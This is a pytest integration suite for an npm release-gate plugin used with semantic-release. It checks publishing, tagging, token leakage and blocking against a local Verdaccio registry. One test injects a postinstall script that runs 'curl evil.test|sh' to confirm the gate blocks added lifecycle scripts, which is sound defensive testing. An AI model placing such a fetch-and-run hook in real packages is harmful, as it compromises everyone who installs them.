"""The semantic-release plugin with the real thing: semantic-release 25 on Node 22, real git, Verdaccio.

Each case builds a real git repo with a local bare remote (`file://` repositoryUrl) and conventional
commits, links the plugin from `integrations/semantic-release/` into its node_modules (as the example
workflow does), and runs semantic-release with `CI=true` and the GitHub Actions environment of a
push to the default branch; the `gatekeeper` CLI of this checkout talks to the session Verdaccio and
the GitHub stand-in. Every case looks at the registry AND at the remote's tags afterwards.

The plugin's own unit tests (`node --test`) run from here too, so `.ci/run` runs them.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests._support import semrel
from tests._support.github_server import GitHubServer, Repo
from tests._support.verdaccio import Verdaccio
from tests._support.workspace import (
    GIT_ENV,
    _search,
    build_env,
    commit_all,
    git,
    head_sha,
    make_package_repo,
    secret_forms,
)

REPO = "acme/widget"
ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples" / "semantic-release"
FAST = {"GATEKEEPER_GITHUB_RETRIES": "2", "GATEKEEPER_GITHUB_BACKOFF": "0.05"}


@pytest.fixture(scope="session")
def semantic_release() -> semrel.SemanticRelease:
    return semrel.ensure_installed()


@pytest.fixture(scope="session")
def gatekeeper_bin(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A `gatekeeper` launcher for this checkout's code (what install-cli.sh makes on a runner)."""
    path = tmp_path_factory.mktemp("gk-bin") / "gatekeeper"
    path.write_text(f'#!/bin/sh\nPYTHONPATH="{ROOT}" exec "{sys.executable}" -m gatekeeper "$@"\n')
    path.chmod(0o755)
    return path


@dataclass
class SemrelRun:
    returncode: int
    output: str
    summary: str
    report: dict[str, Any] | None
    env: dict[str, str]

    def describe(self) -> str:
        return f"exit {self.returncode}\n{self.output}"


@dataclass
class Project:
    """A package repo that releases with semantic-release, its bare remote, registry user, GitHub state."""

    ws: Path
    remote: Path
    name: str
    token: str
    login_token: str
    repo: Repo
    verdaccio: Verdaccio
    github: GitHubServer
    home: Path
    sr: semrel.SemanticRelease
    gk: Path
    run_id: int = 5000

    def commit(self, message: str, green: bool = True) -> str:
        """Commit everything, push it to the remote's main, make it the branch head on the stand-in."""
        sha = commit_all(self.ws, message)
        git(self.ws, "push", "-q", "origin", "main")
        self.repo.add_commit(sha, "main")
        if green:
            self.repo.add_check_run(sha, "test", "success")
        return sha

    def release(self) -> SemrelRun:
        """Run semantic-release as the example workflow's `Release` step does on a push to main."""
        sha = head_sha(self.ws)
        self.run_id += 1
        run = self.repo.add_workflow_run(sha, run_id=self.run_id)
        run.add_job("release", status="in_progress", runner_name="GitHub Actions 2")
        run_dir = self.ws.parent / f"run-{self.run_id}"
        env = build_env(
            self.ws,
            {
                **self.github.env(),
                **FAST,
                "GITHUB_REPOSITORY": REPO,
                "GITHUB_SHA": sha,
                "GITHUB_RUN_ID": str(self.run_id),
            },
            self.home,
            run_dir,
        )
        env = {k: v for k, v in env.items() if not k.startswith("INPUT_")}  # a `run:` step gets no inputs
        env.update(GIT_ENV)
        env.update(
            PATH=f"{self.sr.bin_dir}{os.pathsep}{env['PATH']}",
            GATEKEEPER_BIN=str(self.gk),
            NPM_TOKEN=self.token,
            GITHUB_TOKEN=self.github.token or "",
            npm_config_cache=str(self.home / ".npm"),
            npm_config_update_notifier="false",
        )
        Path(env["GITHUB_EVENT_PATH"]).write_text(
            json.dumps({"ref": "refs/heads/main", "after": sha, "repository": {"fork": False}})
        )
        cmd = [str(self.sr.node), str(self.sr.cli), "--repository-url", self.remote.as_uri()]
        proc = subprocess.run(
            cmd, cwd=self.ws, env=env, capture_output=True, text=True, timeout=300, stdin=subprocess.DEVNULL
        )
        report_path = self.ws / "node_modules/.cache/npm-gatekeeper/report.json"
        report = json.loads(report_path.read_text()) if report_path.exists() else None
        summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
        result = SemrelRun(proc.returncode, proc.stdout + "\n--- stderr ---\n" + proc.stderr, summary, report, env)
        (run_dir / "semantic-release.log").write_text(result.output)  # for a look after a failure
        self.assert_no_leak(result, run_dir)
        # the plugin's private temp dir (verified tarball, step summaries) is gone
        left = [q.name for q in Path(env["TMPDIR"]).iterdir() if q.name != "node-compile-cache"]  # npm's own
        assert not left, left
        return result

    def assert_no_leak(self, result: SemrelRun, run_dir: Path) -> None:
        """Neither token in the output, the summary, or any file of the workspace, HOME or the run."""
        for secret in (self.token, self.login_token):
            forms = secret_forms(secret)
            found = [w for w in ("output", "summary") if _search(getattr(result, w).encode(), forms)]
            for root in (self.ws, self.home, run_dir, self.remote):
                for path in root.rglob("*"):
                    if path.is_symlink() or not path.is_file():
                        continue
                    if _search(path.read_bytes(), forms):
                        found.append(str(path))
            assert not found, f"token leaked to {found}"

    def tags(self) -> list[str]:
        out = git(self.remote, "tag", "--list")
        return sorted(out.split()) if out else []

    def versions(self) -> list[str]:
        doc = self.verdaccio.packument(self.name)
        return sorted((doc or {}).get("versions", {}))

    def integrity(self, version: str) -> str:
        doc = self.verdaccio.packument(self.name)
        assert doc is not None
        return doc["versions"][version]["dist"]["integrity"]


@pytest.fixture
def project(
    verdaccio: Verdaccio,
    github_server: GitHubServer,
    semantic_release: semrel.SemanticRelease,
    gatekeeper_bin: Path,
    tmp_path: Path,
):
    def make(**repo_kw: Any) -> Project:
        user = verdaccio.unique("sr")
        password = "pw-" + user + "-Secret1"
        login = verdaccio.add_user(user, password)
        token = verdaccio.create_token(login, password)
        name = verdaccio.unique("sr-widget")
        remote = tmp_path / "remote.git"
        git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
        files = {
            ".releaserc.json": (EXAMPLES / ".releaserc.json").read_text(),
            **repo_kw.pop("extra_files", {}),
        }
        workflow = (EXAMPLES / "release.yml").read_text()
        manifest = {"publishConfig": {"registry": verdaccio.url}, **repo_kw.pop("manifest", {})}
        ws = make_package_repo(
            tmp_path / "ws",
            name=name,
            version="0.0.0-development",
            extra_files=files,
            workflow=workflow,
            manifest=manifest,
            **repo_kw,
        )
        # the policy file: the gate plugin's registry (plugin config would do the same)
        releaserc = json.loads((ws / ".releaserc.json").read_text())
        releaserc["plugins"][-1] = ["@npm-gatekeeper/semantic-release", {"registry": verdaccio.url}]
        (ws / ".releaserc.json").write_text(json.dumps(releaserc, indent=2) + "\n")
        git(ws, "commit", "-q", "--amend", "-a", "--no-edit")
        git(ws, "remote", "add", "origin", remote.as_uri())
        git(ws, "push", "-q", "-u", "origin", "main")
        # the plugin, linked into node_modules exactly as examples/semantic-release/release.yml does
        (ws / "node_modules" / "@npm-gatekeeper").mkdir(parents=True)
        (ws / "node_modules" / "@npm-gatekeeper" / "semantic-release").symlink_to(semrel.PLUGIN_DIR)
        repo = github_server.repo(REPO, default_branch="main")
        sha = head_sha(ws)
        repo.add_commit(sha, "main")
        repo.add_check_run(sha, "test", "success")
        home = tmp_path / "home"
        home.mkdir()
        return Project(
            ws, remote, name, token, login, repo, verdaccio, github_server, home, semantic_release, gatekeeper_bin
        )

    return make


def _released(p: Project, version: str = "1.0.0") -> None:
    """The last release: `version` on the registry and its tag `v<version>` on the remote (made
    directly, not through semantic-release, to keep the suite lean; the first-release case covers that)."""
    npm = {**p.verdaccio.npm_env(), "npm_config_cache": str(p.home / ".npm")}
    args = ["npm", "version", version, "--no-git-tag-version", "--ignore-scripts"]
    subprocess.run(args, cwd=p.ws, env=npm, check=True, capture_output=True)
    p.verdaccio.publish(p.ws, p.token)
    git(p.ws, "checkout", "-q", "--", "package.json")
    git(p.ws, "tag", f"v{version}")
    git(p.ws, "push", "-q", "origin", f"v{version}")
    assert p.tags() == [f"v{version}"]
    assert p.versions() == [version]


#: Issue 21: the isolation floor refuses to publish from the single job these cases run (semantic-release, its
#: plugins and the NPM_TOKEN in one job); item 3 (branch `semrel`) moves the publish into a job of its own.
SINGLE_JOB_PUBLISH = pytest.mark.xfail(
    strict=True, reason="issue 21: the isolation floor refuses the single-job publish (item 3 splits it)"
)


# ---------------------------------------------------------------------------------------------------
# the four cases


@SINGLE_JOB_PUBLISH
def test_first_release_is_published_with_the_first_release_warning(project) -> None:
    p = project()
    p.commit("feat: the first feature")
    result = p.release()
    assert result.returncode == 0, result.describe()
    assert p.tags() == ["v1.0.0"]
    assert p.versions() == ["1.0.0"]
    assert result.report is not None and result.report["published"] is True
    assert "first-release" in {f["rule"] for f in result.report["findings"]}
    assert "WARN  first-release" in result.output, result.describe()
    assert result.report["publish"]["integrity"] == p.integrity("1.0.0")
    # prepare wrote the version like @semantic-release/npm (so @semantic-release/git could commit it)
    assert json.loads((p.ws / "package.json").read_text())["version"] == "1.0.0"
    assert "## ✅ npm-gatekeeper" in result.summary and "published" in result.summary


@SINGLE_JOB_PUBLISH
def test_feat_on_green_publishes_the_next_minor_with_the_verified_integrity(project) -> None:
    p = project()
    p.commit("feat: the first feature")
    _released(p)
    (p.ws / "lib.js").write_text("module.exports = 2;\n")
    p.commit("feat: a second feature")
    result = p.release()
    assert result.returncode == 0, result.describe()
    assert p.tags() == ["v1.0.0", "v1.1.0"]
    assert p.versions() == ["1.0.0", "1.1.0"]
    assert result.report is not None
    assert result.report["package"] == {"name": p.name, "version": "1.1.0"}
    assert result.report["previous"]["version"] == "1.0.0"
    assert result.report["publish"]["integrity"] == p.integrity("1.1.0")
    # the tarball published is the one verified in verifyRelease, before the tag existed
    verified = [ln for ln in result.output.splitlines() if "npm-gatekeeper: verified" in ln]
    assert verified and p.integrity("1.1.0") in verified[0], result.describe()
    assert "packs to exactly the verified tarball" in result.output
    assert "dist-tag latest" in result.output
    assert p.verdaccio.packument(p.name)["dist-tags"]["latest"] == "1.1.0"


def test_fix_adding_a_postinstall_fails_in_verify_release_before_any_tag(project) -> None:
    p = project()
    p.commit("feat: the first feature")
    _released(p)
    pkg = json.loads((p.ws / "package.json").read_text())
    pkg["scripts"]["postinstall"] = "node -e \"require('child_process').exec('curl evil.test|sh')\""
    (p.ws / "package.json").write_text(json.dumps(pkg, indent=2) + "\n")
    p.commit("fix: small fix")
    result = p.release()
    assert result.returncode != 0, result.describe()
    assert p.tags() == ["v1.0.0"], "no tag may be pushed"
    assert p.versions() == ["1.0.0"], "nothing new may reach the registry"
    assert "EGATEKEEPERBLOCKED" in result.output and "verifyRelease" in result.output, result.describe()
    assert "BLOCK lifecycle-script-added" in result.output, result.describe()
    assert "Created tag" not in result.output
    assert result.report is not None and result.report["package"]["version"] == "1.0.1"
    assert "blocked" in result.summary and "lifecycle-script-added" in result.summary
    # package.json was never touched: prepare did not run
    assert json.loads((p.ws / "package.json").read_text())["version"] == "0.0.0-development"


def test_red_check_fails_in_verify_conditions_before_any_tag(project) -> None:
    p = project()
    sha = p.commit("feat: the first feature", green=False)
    p.repo.add_check_run(sha, "test", "failure")
    result = p.release()
    assert result.returncode != 0, result.describe()
    assert p.tags() == []
    assert p.versions() == []
    assert "EGATEKEEPERBLOCKED" in result.output and "verifyConditions" in result.output, result.describe()
    assert "BLOCK check-failed" in result.output
    assert "analyzeCommits" not in result.output.split("EGATEKEEPERBLOCKED")[0].split("verifyConditions")[-1]
    assert result.report is not None and result.report["gates"]["green-build"] == "fail"
    assert result.report["gates"]["diff"] == "skipped"


def test_first_release_policy_block_is_honoured(project) -> None:
    p = project(extra_files={".github/npm-gatekeeper.yml": "diff:\n  first-release: block\n"})
    p.commit("feat: the first feature")
    result = p.release()
    assert result.returncode != 0, result.describe()
    assert p.tags() == [] and p.versions() == []
    assert "BLOCK first-release" in result.output, result.describe()


# ---------------------------------------------------------------------------------------------------
# the plugin's unit tests and the example


def test_plugin_unit_tests_with_node_test(semantic_release: semrel.SemanticRelease) -> None:
    """`node --test` on integrations/semantic-release/test/ (Node 22). scripts/test.sh runs them first,
    with their output on the terminal, and says so in GATEKEEPER_PLUGIN_TESTS_RAN (no second run)."""
    if os.environ.get("GATEKEEPER_PLUGIN_TESTS_RAN") == "1":
        pytest.skip("the plugin's node --test suite ran (and passed) in scripts/test.sh, output above")
    proc = subprocess.run(
        [str(semantic_release.node), "--test", "--test-reporter=tap", "test/*.test.js"],
        cwd=semrel.PLUGIN_DIR,
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "PATH": f"{semantic_release.bin_dir}{os.pathsep}{os.environ['PATH']}"},
    )
    sys.stdout.write(proc.stdout + proc.stderr)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "# fail 0" in proc.stdout, proc.stdout


def test_example_releaserc_lists_exactly_the_three_plugins() -> None:
    config = json.loads((EXAMPLES / ".releaserc.json").read_text())
    assert config["plugins"] == [
        "@semantic-release/commit-analyzer",
        "@semantic-release/release-notes-generator",
        "@npm-gatekeeper/semantic-release",
    ]


def test_example_workflow_least_privilege_and_pinned() -> None:
    text = (EXAMPLES / "release.yml").read_text()
    wf = yaml.safe_load(text)
    assert wf["permissions"] == {}
    writers = [name for name, job in wf["jobs"].items() if "write" in (job.get("permissions") or {}).values()]
    assert writers == ["release"]
    assert wf["jobs"]["release"]["permissions"]["contents"] == "write"
    assert wf["jobs"]["test"]["permissions"] == {"contents": "read"}
    for line in text.splitlines():
        if line.strip().startswith(("- uses:", "uses:")):
            ref = line.split("uses:", 1)[1].split("#")[0].strip()
            assert len(ref.rsplit("@", 1)[1]) == 40, ref
    assert "--require-hashes" in (semrel.PLUGIN_DIR / "install-cli.sh").read_text()
    assert "npx --no-install semantic-release" in text


CHANGELOG_PLUGIN = """\
import { appendFileSync } from "node:fs";
import { join } from "node:path";
// a stand-in for @semantic-release/changelog: writes a packed file in prepare, before the gate plugin
export async function prepare(_config, { cwd, nextRelease }) {
  appendFileSync(join(cwd, "CHANGELOG.md"), `## ${nextRelease.version}\\n\\n${nextRelease.notes || ""}\\n`);
}
"""


@SINGLE_JOB_PUBLISH
def test_a_prepare_plugin_before_the_gate_that_changes_packed_files_is_gated_again_before_the_tag(project) -> None:
    p = project(extra_files={"changelog-plugin.mjs": CHANGELOG_PLUGIN, "CHANGELOG.md": "# Changelog\n"})
    releaserc = json.loads((p.ws / ".releaserc.json").read_text())
    releaserc["plugins"].insert(2, "./changelog-plugin.mjs")
    (p.ws / ".releaserc.json").write_text(json.dumps(releaserc, indent=2) + "\n")
    p.commit("feat: the first feature")
    result = p.release()
    assert result.returncode == 0, result.describe()
    assert p.tags() == ["v1.0.0"] and p.versions() == ["1.0.0"]
    assert "differs from the verified tarball" in result.output, result.describe()
    # the tarball published is the re-gated one (with the changelog), not the first verified one
    verified = [
        ln.rsplit("(", 1)[1].rstrip(")") for ln in result.output.splitlines() if "npm-gatekeeper: verified" in ln
    ]
    assert len(verified) == 2 and verified[0] != verified[1], result.describe()
    assert p.integrity("1.0.0") == verified[1] == result.report["publish"]["integrity"]
